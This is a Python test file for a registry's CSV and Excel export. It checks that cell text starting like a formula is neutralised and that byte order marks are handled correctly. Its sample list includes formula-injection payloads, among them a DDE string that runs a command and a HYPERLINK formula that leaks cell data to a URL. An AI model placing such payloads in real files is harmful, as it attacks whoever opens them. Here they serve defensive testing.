"""What somebody entered is shown as text by the spreadsheet of whoever opens a file, never run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kernel.workbooks.writing import csv_text, new_workbook
from tests.registry.builders import GIA_CAM, ORGANIZATIONS, a_cooperative
from tests.registry.test_exports import EXPORTS, snapshot
from tests.support.answers import assert_problem, ok
from tests.support.client import ApiClient

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULAS = (
    '=HYPERLINK("http://example.com?x="&A1)',
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "-Nhóm Chè",
    "=1",
)


async def rows_with(registry: ApiClient, texts: tuple[str, ...], **wanted: Any) -> tuple[bytes, list[dict[str, str]]]:
    for text in texts:
        seat = {"commune_code": GIA_CAM, "commune_map": "2008", "address": text}
        ok(await registry.post(ORGANIZATIONS, json=a_cooperative(seat=seat, name_short=text)), 201)
    _, data = await snapshot(registry, format="csv", **wanted)
    return data, [*csv.DictReader(io.StringIO(data.decode("utf-8-sig")))]


async def test_a_text_that_begins_like_a_formula_is_text_in_csv(registry: ApiClient) -> None:
    _, rows = await rows_with(registry, FORMULAS)
    assert [row["name_short"] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert not [cell for row in rows for cell in row.values() if re.match(r"[=+@-]", cell)]
    # Numbers stay numbers.
    assert {row["version"] for row in rows} == {"1"}


async def test_csv_has_a_byte_order_mark_only_where_it_was_asked_for(registry: ApiClient) -> None:
    plain, _ = await rows_with(registry, ("Chè",))
    manifest, marked = await snapshot(registry, format="csv", bom=True)
    assert (plain[:3], marked) == (b"id,", b"\xef\xbb\xbf" + plain)
    assert manifest["files"][0]["bytes"] == len(marked)
    url = manifest["files"][0]["url"]
    assert (await registry.anonymous().get(f"{url}&bom=true")).content == marked


async def test_a_file_made_without_the_mark_is_downloaded_with_it(registry: ApiClient) -> None:
    manifest, plain = await snapshot(registry, format="csv")
    download = await registry.anonymous().get(f"{manifest['files'][0]['url']}&bom=true")
    assert (download.status_code, download.content) == (200, b"\xef\xbb\xbf" + plain)
    assert download.headers["content-type"] == "text/csv; charset=utf-8"


async def test_lines_of_json_take_no_byte_order_mark(registry: ApiClient) -> None:
    body = {"type": "organization", "format": "ndjson", "bom": True}
    document = assert_problem(await registry.post(EXPORTS, json=body), 422, "invalid")
    assert [error["pointer"] for error in document["errors"]] == ["/bom"]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
def test_no_text_begins_a_formula_and_no_text_is_lost(text: str) -> None:
    shown = csv_text(text)
    assert shown.removeprefix("'") == text.removeprefix("'")
    assert not re.match(r"[=+@\x00-\x1f]", shown)
    assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", shown) or not shown.startswith("-")


@pytest.mark.parametrize("number", ["-5", "-643.5", "12", "0"])
def test_a_number_stays_a_number(number: str) -> None:
    assert csv_text(number) == number


def test_a_workbook_takes_neither_formulas_nor_links_from_text() -> None:
    out = io.BytesIO()
    with new_workbook(out) as book:
        sheet = book.add_worksheet()
        for at, text in enumerate((*FORMULAS, "http://example.com", "mailto:a@b.vn", "0123")):
            sheet.write(at, 0, text)
        sheet.write(20, 0, -5)
    import zipfile

    with zipfile.ZipFile(out) as parts:
        cells = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in cells
        assert "hyperlink" not in cells
        assert "xl/worksheets/_rels/sheet1.xml.rels" not in parts.namelist()
    assert (cells.count('t="s"'), cells.count("<v>-5</v>")) == (len(FORMULAS) + 3, 1)


def test_every_workbook_of_ours_is_opened_there() -> None:
    readers = [
        path.relative_to(ROOT).as_posix()
        for folder in ("kernel", "services")
        for path in (ROOT / folder).rglob("*.py")
        if "xlsxwriter.Workbook" in path.read_text(encoding="utf-8")
    ]
    assert readers == ["kernel/workbooks/writing.py"]
